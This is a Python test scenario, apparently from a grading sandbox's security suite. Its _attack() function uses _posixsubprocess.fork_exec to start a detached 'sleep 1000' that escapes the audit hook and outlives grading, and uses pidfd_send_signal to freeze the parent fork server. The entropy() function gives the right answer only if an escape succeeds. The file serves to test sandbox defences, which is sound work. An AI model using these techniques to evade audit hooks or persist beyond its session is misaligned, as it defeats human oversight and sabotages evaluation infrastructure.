"""Scenario hostile-escape-processes: starts a daemon the audit hook never sees, and signals the fork server.

ATTACKS (issue 11), each in try/except: _posixsubprocess.fork_exec (no audit event) starting
`sleep 1000` in its own session, which would outlive grading; os.fork through a raw clone via ctypes
is out of reach (ctypes is refused), so only the C-level entry points are tried; pidfd_open on the
fork server plus signal.pidfd_send_signal(SIGSTOP) (no audit event), which would freeze the batch.
It answers correctly only if a process was started; the test checks that no `sleep 1000` survives
and that grading finished normally.
"""
import os
import signal

import numpy as np

WINS = []


def _attack():
    try:
        import _posixsubprocess

        args = [b"/bin/sleep", b"1000"]
        exe = [b"/bin/sleep", b"/usr/bin/sleep"]
        r, w = os.pipe()
        pid = _posixsubprocess.fork_exec(
            args, exe, True, (), None, None, -1, -1, -1, -1, -1, -1, r, w, True, True, False,
            None, None, None, -1, None, False)
        if pid > 0:
            WINS.append("fork_exec")
    except Exception:
        pass
    try:
        fd = os.pidfd_open(os.getppid())
        signal.pidfd_send_signal(fd, signal.SIGSTOP)
        WINS.append("pidfd_send_signal")
        signal.pidfd_send_signal(fd, signal.SIGCONT)
    except Exception:
        pass


def entropy(probs):
    """Right only if a process escaped the rules."""
    _attack()
    if WINS:
        p = np.asarray(probs, dtype=float)
        p = p[p > 0]
        return float(-np.sum(p * np.log2(p)))
    return -1.0


def most_uncertain(distributions):
    """Index of the distribution with the highest entropy."""
    p = [np.asarray(d, dtype=float) for d in distributions]
    return int(np.argmax([float(-np.sum(q[q > 0] * np.log2(q[q > 0]))) for q in p]))
